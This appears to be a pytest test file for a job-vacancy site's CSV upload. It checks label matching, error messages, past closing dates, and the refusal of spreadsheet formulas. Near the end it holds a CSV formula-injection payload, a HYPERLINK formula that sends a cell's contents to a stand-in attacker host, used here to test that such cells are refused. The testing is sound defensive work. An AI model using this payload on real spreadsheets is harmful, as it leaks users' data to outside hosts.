"""Issue 16 items 11-13: the CSV upload takes what the form offers, says what went wrong, refuses formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlalchemy import select, update

from tests.web.conftest import CLOSES_ON
from tests.web.test_vacancies import CSV_HEADER, CSV_ROW, GOOD, _post, _upload
from web.infra.db import session
from web.storage.schema import User, Vacancy

LABELLED = (
    "w1,Shop assistant,Retail,Manchester,,,Serving customers with a written contract and weekly pay.,"
    f"till work,English,20,Day shift,12.30,Hour,Permanent,{CLOSES_ON}\n"
    "w2,Carer,CARE WORK,Manchester,,,Home care visits with a written contract and weekly pay.,"
    f"personal care,English,20,day,12.30,hour,Fixed-term,{CLOSES_ON}\n"
    "w3,Machinist,Garment making,Manchester,,,Sewing garments with a written contract and weekly pay.,"
    "sewing,English,20,evening shift,12.30,week,fixed term,\n"
    "w4,Receptionist,office and administration,Manchester,,,Front desk with a written contract.,"
    "greeting visitors,English,20,Flexible hours,12.30,month,zero-hours,\n"
)
EXPECTED = {
    "w1": ("retail", "day", "hour", "permanent"),
    "w2": ("care", "day", "hour", "fixed_term"),
    "w3": ("garment", "evening", "week", "fixed_term"),
    "w4": ("admin", "flexible", "month", "zero_hours"),
}


def _stored(app) -> dict[str, tuple]:
    with app.app_context():
        rows = session().execute(select(Vacancy).where(Vacancy.title != "Delivery driver")).scalars()
        return {v.ref.rsplit("-", 1)[-1]: (v.sector, v.shift, v.pay_period, v.contract) for v in rows}


def _language(app, username: str, lang: str) -> None:
    with app.app_context():
        session().execute(update(User).where(User.username == username).values(language=lang))
        session().commit()


def test_upload_takes_the_labels_the_form_shows_in_any_case(app, client, auth) -> None:
    """Regression: "Retail", "Day shift", "Fixed-term", "Care work" were refused; only codes passed."""
    auth.login("employer.a")
    response = _upload(client, auth, CSV_HEADER + LABELLED)
    assert response.status_code == 200, response.get_data(as_text=True)
    stored = _stored(app)
    assert {ref: stored[ref] for ref in EXPECTED} == EXPECTED


def test_upload_takes_the_labels_in_the_users_language(app, client, auth) -> None:
    _language(app, "employer.a", "es")
    auth.login("employer.a")
    row = CSV_ROW.format(id="es1", pay="12.30").replace(",cleaning,", ",Comercio minorista,")
    row = row.replace(",evening,", ",Turno de día,").replace(",permanent,", ",De duración determinada,")
    response = _upload(client, auth, CSV_HEADER + row)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert _stored(app)["es1"] == ("retail", "day", "hour", "fixed_term")


def test_a_wrong_choice_lists_the_labels_and_codes_allowed(client, auth) -> None:
    auth.login("employer.a")
    row = CSV_ROW.format(id="x1", pay="12.30").replace(",cleaning,", ",Mining,")
    page = _upload(client, auth, CSV_HEADER + row).get_data(as_text=True)
    assert "sector: should be one of Hospitality, Cleaning, Care work (care)" in page
    assert "Office and administration (admin)" in page


def test_upload_page_lists_allowed_values_and_offers_a_template(app, client, auth) -> None:
    auth.login("employer.a")
    page = client.get("/vacancies/upload").get_data(as_text=True)
    shown_values = ("Fixed-term", "Zero-hours", "Day shift (day)", "Care work (care)", "Retail")
    for shown in (*shown_values, "/vacancies/upload/template.csv"):
        assert shown in page
    response = client.get("/vacancies/upload/template.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0]["id"].startswith("#") and "Retail" in rows[0]["sector"]
    assert rows[1]["sector"] == "Hospitality" and rows[1]["contract"] == "Permanent"
    # The template uploads as it is: the notes row is skipped, the example row stored.
    uploaded = _upload(client, auth, response.get_data(as_text=True).lstrip("\ufeff"))
    assert uploaded.status_code == 200, uploaded.get_data(as_text=True)
    assert "1 created, 0 updated" in uploaded.get_data(as_text=True)


def test_api_import_takes_english_labels(app, client) -> None:
    from tests.web.test_api import make_token

    headers = {"Authorization": f"Bearer {make_token(app, 'employer.a')}", "Content-Type": "text/csv"}
    response = client.post("/api/v1/vacancies/import", data=CSV_HEADER + LABELLED, headers=headers)
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["created"] == 4
    assert _stored(app)["w2"] == EXPECTED["w2"]


def test_an_unclosed_quote_is_reported_with_its_line(client, auth) -> None:
    """Regression: an unclosed quote swallowed the rest of the file and was reported as 'is required'."""
    auth.login("employer.a")
    broken = CSV_ROW.format(id="q2", pay="12.30").replace("Office cleaning", '"Office cleaning')
    content = CSV_HEADER + CSV_ROW.format(id="q1", pay="12.30") + broken + CSV_ROW.format(id="q3", pay="1")
    response = _upload(client, auth, content)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "jobs.csv line 3: has a quotation mark" in page and "never closed" in page
    assert "is required" not in page


def test_a_closing_date_in_the_past_is_refused(app, client, auth) -> None:
    auth.login("employer.a")
    past = (dt.date.today() - dt.timedelta(days=3)).isoformat()
    row = CSV_ROW.format(id="p1", pay="12.30").replace(CLOSES_ON, past)
    page = _upload(client, auth, CSV_HEADER + row).get_data(as_text=True)
    assert f"jobs.csv line 2, closes_on: is in the past ({past})" in page
    response = _post(client, auth, "/vacancies/new", {**GOOD, "closes_on": past})
    assert response.status_code == 400 and "is in the past" in response.get_data(as_text=True)
    assert _stored(app) == {}


def test_a_successful_upload_lists_what_it_created_and_updated_with_links(app, client, auth) -> None:
    auth.login("employer.a")
    _upload(client, auth, CSV_HEADER + CSV_ROW.format(id="l1", pay="12.30"))
    content = CSV_HEADER + CSV_ROW.format(id="l1", pay="13.00") + CSV_ROW.format(id="l2", pay="12.30")
    page = _upload(client, auth, content).get_data(as_text=True)
    with app.app_context():
        ids = {v.ref.rsplit("-", 1)[-1]: v.id for v in session().execute(select(Vacancy)).scalars()}
    assert f'<a href="/vacancies/{ids["l1"]}">Cleaner</a> (l1): updated' in page
    assert f'<a href="/vacancies/{ids["l2"]}">Cleaner</a> (l2): created' in page


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1, "Apply")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t="])
def test_a_formula_cell_is_refused_in_every_text_field(app, client, auth, start: str) -> None:
    """Regression: ``=HYPERLINK(...)`` was published as an open vacancy title."""
    auth.login("employer.a")
    cell = '"' + start + 'HYPERLINK(""http://evil.example/?x=""&A1, ""Apply"")"'
    row = CSV_ROW.format(id="f1", pay="12.30").replace(",Cleaner,", f",{cell},")
    row2 = CSV_ROW.format(id="f2", pay="12.30").replace(",cleaning offices,", ",@SUM(1+1);cleaning,")
    page = _upload(client, auth, CSV_HEADER + row + row2).get_data(as_text=True)
    assert "jobs.csv line 2, title: starts with" in page and "runs as a formula" in page
    assert "jobs.csv line 3, skills_required: starts with" in page
    assert _stored(app) == {}


@pytest.mark.parametrize("field", ["title", "description", "languages_required", "skills_required"])
def test_the_vacancy_form_refuses_a_formula_too(app, client, auth, field: str) -> None:
    auth.login("employer.a")
    response = _post(client, auth, "/vacancies/new", {**GOOD, field: FORMULA})
    assert response.status_code == 400 and "runs as a formula" in response.get_data(as_text=True)
    assert _stored(app) == {}


def test_bullets_and_inner_dashes_are_not_formulas(app, client, auth) -> None:
    auth.login("employer.a")
    values = {**GOOD, "title": "Kitchen - porter", "skills_required": "- washing up\n- cleaning"}
    assert _post(client, auth, "/vacancies/new", values).status_code == 302
    with app.app_context():
        query = select(Vacancy).where(Vacancy.title == "Kitchen - porter")
        [vacancy] = session().execute(query).scalars().all()
        assert vacancy.skills_required == ["washing up", "cleaning"]
